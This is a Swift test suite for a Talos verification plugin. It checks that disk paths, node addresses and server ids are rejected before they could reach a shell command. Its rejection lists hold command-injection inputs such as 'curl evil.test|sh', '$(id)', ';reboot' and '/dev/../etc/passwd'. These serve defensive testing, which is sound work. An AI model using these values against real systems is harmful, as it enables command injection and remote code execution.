import Foundation
import HTTP
import PluginKit
import Testing

@testable import TalosVerifyPlugin

@Suite("What a node or a provider says gets into a command only where no shell could misread it")
struct ShellWordTests {
  private static let now = Date(timeIntervalSince1970: 1_795_516_920)

  private static func disk(_ path: String) -> Disk? { Disk(Protobuf.Message(Protobuf.field(14, path))) }

  @Test(
    "the paths of disks are taken",
    arguments: [
      "/dev/sda", "/dev/nvme0n1", "/dev/disk/by-path/pci-0000:00:1f.2-ata-1.0", "/dev/mapper/a_b",
      "/dev/" + String(repeating: "a", count: 64),
    ])
  func good(path: String) { #expect(Self.disk(path)?.path == path) }

  @Test(
    "a disk with any other path is none",
    arguments: [
      "", "/dev/", "sda", "/dev", "/DEV/sda", "/dev/sda; curl evil.test|sh", "/dev/sda $(id)", "/dev/`id`",
      "/dev/sda\nreboot", "/dev/a'b", "/dev/sd\\a", "/dev/sda\u{301}", "/dev/../etc/passwd", "/dev/a/..", "/dev/s*",
      "/dev/" + String(repeating: "a", count: 65),
    ])
  func bad(path: String) { #expect(Self.disk(path) == nil) }

  @Test(
    "addresses are told apart from what is none",
    arguments: [
      ("192.0.2.7", true), ("2001:db8::7", true), ("::1", true), ("node-1.example.com", true), ("", false),
      ("192.0.2.7;reboot", false), ("192.0.2.7 --insecure", false), ("--help", false), ("192.0.2.7/x", false),
      ("$(id)", false), ("192.0.2.7\n", false), (String(repeating: "a", count: 254), false),
    ])
  func addresses(text: String, isAddress: Bool) { #expect(ShellWord.isAddress(text) == isAddress) }

  @Test(
    "a server with another address fails before it is looked at, and nothing is written about it",
    arguments: ["wait-for-maintenance", "report"], ["192.0.2.7;reboot", ""])
  func noAddress(action: String, address: String) async throws {
    let client = HTTPClient()
    defer { client.shutdown() }
    let plugin = TalosVerifyPlugin(
      host: PluginHost(instance: "tpoc", settings: [:], secrets: GivenSecrets([:]), clock: SystemClock()),
      client: client)
    let outcome = try await plugin.perform(
      action,
      ActionContext(
        run: "abcdef", instance: "tpoc", step: action, inputs: ["address": .string(address)], stepBegan: Self.now,
        now: Self.now))
    guard case .failed(let failure) = outcome.verdict else {
      Issue.record("it went on: \(outcome.verdict)")
      return
    }
    #expect(failure.next.contains("`teardown abcdef --yes`"))
    #expect(!failure.seen.contains("reboot"))
    #expect(outcome.notices.isEmpty)
  }

  @Test(
    "the command that deletes a server is shown where the server's id is plain", arguments: ["sv_1", "sv_1;reboot"])
  func deletion(id: String) {
    let facts: Facts = ["server_id": .string(id), "delete_command": .string("curl -X DELETE …/servers/\(id)")]
    let text = ReportText(
      context: ActionContext(
        run: "abcdef", instance: "tpoc", step: "report", facts: facts, stepBegan: Self.now, now: Self.now),
      facts: facts, address: "192.0.2.7", clock: { LocalTime.text($0, zone: "UTC") })
    let deletions = text.notice.body.parts.filter { part in
      if case .code(let code) = part { code.contains("DELETE") } else { false }
    }
    #expect(deletions.count == (id == "sv_1" ? 1 : 0))
  }
}
